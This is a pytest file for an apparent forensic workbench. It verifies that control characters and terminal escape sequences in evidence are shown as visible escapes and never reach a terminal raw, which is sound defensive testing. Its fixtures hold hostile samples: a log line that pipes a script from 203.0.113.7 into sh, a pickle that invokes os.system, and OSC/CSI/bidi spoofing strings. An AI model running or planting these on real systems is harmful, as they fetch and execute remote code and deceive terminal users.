"""Outputs safe for their reader: control and escape characters from evidence never reach a terminal raw.

Unit tests of :mod:`workbench.termsafe`, then a case whose evidence carries OSC (set window title, hyperlink),
CSI (clear screen, colour), BEL, backspace, carriage return, C1 CSI and bidi controls in a file name, a log line,
a tensor name, a prediction label, an alert and a config value; every command is run on it as a subprocess and
its stdout and stderr (bytes) must hold none of those characters, and show them as visible escapes instead.
"""

from __future__ import annotations

import json
import struct
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from workbench.termsafe import json_text, printable, shown, unsafe_chars

WORKBENCH = [sys.executable, "-m", "workbench"]
OSC_TITLE = "\x1b]0;pwned\x07"
OSC_LINK = "\x1b]8;;http://203.0.113.7/\x1b\\click\x1b]8;;\x1b\\"
CSI = "\x1b[2J\x1b[31m"
TRICKS = f"{OSC_TITLE}{CSI}\x08\x08\rcustody verified\x9b1m\u202eevil\u2066"
#: bytes (UTF-8) that must never be written raw: ESC, BEL, BS, CR, C1 CSI/OSC, RLO, LRI, PDI
RAW = [b"\x1b", b"\x07", b"\x08", b"\r", "\x9b".encode(), "\x9d".encode(), "\u202e".encode(), "\u2066".encode(),
       "\u2069".encode()]  # fmt: skip


# ------------------------------------------------------------------------------------------------------- units
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain é ü 日本", "plain é ü 日本"),
        (OSC_TITLE, "\\x1b]0;pwned\\x07"),
        ("a\tb\nc\rd", "a\\tb\\nc\\rd"),
        ("\x08\x7f\x9b\x00", "\\x08\\x7f\\x9b\\x00"),
        ("\u202eabc\u2066\u2069\u200b\ufeff", "\\u202eabc\\u2066\\u2069\\u200b\\ufeff"),
        ("\u2028\u2029", "\\u2028\\u2029"),
        ("lone \ud800 surrogate", "lone \\ud800 surrogate"),
        ("\U000e0041 tag", "\\U000e0041 tag"),
    ],
)
def test_printable(text, expected):
    assert printable(text) == expected
    assert unsafe_chars(printable(text)) == []
    printable(text).encode("utf-8")  # nothing left that cannot be written


def test_shown_redacts_then_escapes():
    line = f"token ghp_Vq3Lm8Ns2Kd7Hf4Tg9Rj1Wb6Xc5Ye0Za3Pu8{OSC_TITLE}"
    assert shown(line) == "token ghp_Vq…[redacted]\\x1b]0;pwned\\x07"
    assert shown(42) == "42"


def test_json_text_is_valid_redacted_and_inert():
    doc = {"name": TRICKS, "k": ["PGPASSWORD=Pg-Env-Pw-9965", "\ud800", "\U0001f600 ok"], "n": 1.5}
    text = json_text(doc)
    back = json.loads(text)
    assert back["name"] == TRICKS and back["k"][0] == "PGPASSWORD=…[redacted]" and back["k"][1] == "\ud800"
    assert back["k"][2] == "\U0001f600 ok" and "\U0001f600" in text  # printable non-ASCII stays readable
    assert unsafe_chars(text.replace("\n", "")) == []
    with pytest.raises(ValueError, match="Out of range float"):
        json_text({"x": float("nan")})


# ------------------------------------------------------------------------------------------------ end to end
def _safetensors(path: Path, name: str, values: list[float]) -> None:
    data = np.array(values, dtype="<f4").tobytes()
    header = json.dumps({name: {"dtype": "F32", "shape": [len(values)], "data_offsets": [0, len(data)]}}).encode()
    path.write_bytes(struct.pack("<Q", len(header)) + header + data)


def _case(root: Path) -> Path:
    root.mkdir(parents=True)
    (root / "case.yaml").write_text(
        f'incident_id: "INC-2026-0778"\ntitle: {json.dumps("Escape drill " + TRICKS)}\nseverity: "high"\n'
        'affected_models: ["m"]\nsuspect_model: "models/suspect/m"\nreference_model: "models/reference/m"\n',
        encoding="utf-8",
    )
    (root / "logs").mkdir()
    (root / "logs" / f"ci{OSC_TITLE}.log").write_text(
        f"2026-11-19T08:00:00Z curl -s http://203.0.113.7/x.sh | sh {OSC_LINK}{TRICKS}\n", encoding="utf-8"
    )
    (root / "exports").mkdir()
    (root / "exports" / f"notes{OSC_TITLE}{CSI}\u202etxt.exe").write_text("x\n")
    for side, values in (("reference", [0.1, 0.2]), ("suspect", [0.9, -0.2])):
        folder = root / "models" / side / "m"
        folder.mkdir(parents=True)
        _safetensors(folder / "model.safetensors", f"layer{OSC_TITLE}{CSI}.weight", values)
        note = TRICKS if side == "suspect" else ""
        (folder / "config.json").write_text(json.dumps({"model_type": "bert", "note": note}))
    pickle = b"\x80\x02cos\nsystem\nX\x04\x00\x00\x00ls\x07\x85R."  # os.system("ls\a"), never loaded
    (root / "models" / "suspect" / "m" / f"opt{CSI}.pkl").write_bytes(pickle)
    (root / "predictions").mkdir()
    rows = [{"timestamp": f"2026-11-{10 + i // 40:02d}T{i % 24:02d}:00:00Z", "request_id": f"r{i}", "confidence": 0.9,
             "label": (f"pos{OSC_TITLE}\u202e" if i >= 160 and i % 2 else ("positive" if i % 2 else "negative"))}
            for i in range(320)]  # fmt: skip
    (root / "predictions" / "predictions.jsonl").write_text("\n".join(map(json.dumps, rows)) + "\n")
    (root / "predictions" / "baseline_distribution.json").write_text('{"positive": 0.5, "negative": 0.5}')
    (root / "monitor").mkdir()
    alert = {"timestamp": "2026-11-19T08:40:03Z", "type": "UNEXPECTED_FILE", "model": "m",
             "file": f"x{OSC_TITLE}.pkl", "severity": "high", "message": f"Unexpected file {TRICKS}",
             "expected_hash": None, "actual_hash": None}  # fmt: skip
    (root / "monitor" / "alerts.jsonl").write_text(json.dumps(alert) + "\n")
    return root


def _run(*args: str | Path) -> subprocess.CompletedProcess:
    return subprocess.run([*WORKBENCH, *map(str, args)], capture_output=True, timeout=600, check=False)


@pytest.fixture(scope="module")
def runs(tmp_path_factory) -> dict[str, subprocess.CompletedProcess]:
    base = tmp_path_factory.mktemp("escapes")
    case = _case(base / "case")
    out = base / "out"
    suspect, reference = case / "models" / "suspect" / "m", case / "models" / "reference" / "m"
    preds = case / "predictions"
    procs = {"investigate": _run("investigate", case, "--out", out)}
    for name, args in {
        "scan-model": ("scan-model", suspect), "diff-model": ("diff-model", suspect, reference),
        "scan-logs": ("scan-logs", case / "logs"),
        "drift": ("drift", preds / "predictions.jsonl", "--baseline", preds / "baseline_distribution.json"),
    }.items():  # fmt: skip
        procs[name] = _run(*args)
        procs[f"{name} --json"] = _run(*args, "--json")
    procs["timeline"] = _run("timeline", case)
    procs["timeline csv"] = _run("timeline", case, "--out", base / f"t{OSC_TITLE}.csv")
    (case / "exports" / f"added{OSC_TITLE}{CSI}\r.txt").write_text("after intake\n")  # verify lists it
    procs["custody verify"] = _run("custody", "verify", out)
    procs["custody verify --json"] = _run("custody", "verify", out, "--json")
    watched = base / "watched"
    watched.mkdir()
    (watched / "model.safetensors").write_bytes(b"w" * 64)
    config = base / "monitor.json"
    settings = {"check_interval_seconds": 1, "models": [{"id": "m", "path": str(watched)}],
                "state_file": str(base / "state.json"), "alerts_file": str(base / "alerts.jsonl")}  # fmt: skip
    config.write_text(json.dumps(settings))
    procs["monitor baseline"] = _run("monitor", "--config", config, "--once")
    (watched / f"evil{OSC_TITLE}{CSI}.pkl").write_bytes(b"x")
    procs["monitor alerts"] = _run("monitor", "--config", config, "--once")
    return procs


def test_every_command_ran(runs):
    bad = {name: (p.returncode, p.stderr[-2000:]) for name, p in runs.items() if p.returncode not in (0, 1)}
    assert bad == {}
    assert runs["custody verify"].returncode == 1  # the file added after intake


def test_no_raw_control_or_escape_byte_reaches_stdout_or_stderr(runs):
    found = {f"{name} {stream}": [r for r in RAW if r in getattr(p, stream)]
             for name, p in runs.items() for stream in ("stdout", "stderr")}  # fmt: skip
    assert {k: v for k, v in found.items() if v} == {}


@pytest.mark.parametrize(
    ("name", "stream", "visible"),
    [
        ("scan-logs", "stdout", "ci\\x1b]0;pwned\\x07.log:1:"),  # the file name
        ("scan-model", "stdout", "opt\\x1b[2J\\x1b[31m.pkl"),
        ("diff-model", "stdout", "layer\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31m.weight"),  # the tensor name
        ("drift", "stdout", "pos\\x1b]0;pwned\\x07\\u202e"),  # the label
        ("custody verify", "stdout", "added: exports/added\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31m\\r.txt"),
        ("monitor alerts", "stderr", "evil\\u001b]0;pwned\\u0007"),  # JSON log lines: JSON escapes
    ],
)
def test_evidence_text_is_shown_as_visible_escapes(runs, name, stream, visible):
    assert visible in getattr(runs[name], stream).decode("utf-8")


def test_json_outputs_decode_to_the_evidence_text(runs):
    doc = json.loads(runs["diff-model --json"].stdout)
    assert any(f"layer{OSC_TITLE}{CSI}.weight" in f["title"] for f in doc["findings"])
    lines = [json.loads(line) for line in runs["timeline"].stdout.splitlines()]
    assert any(OSC_TITLE in r["message"] for r in lines)
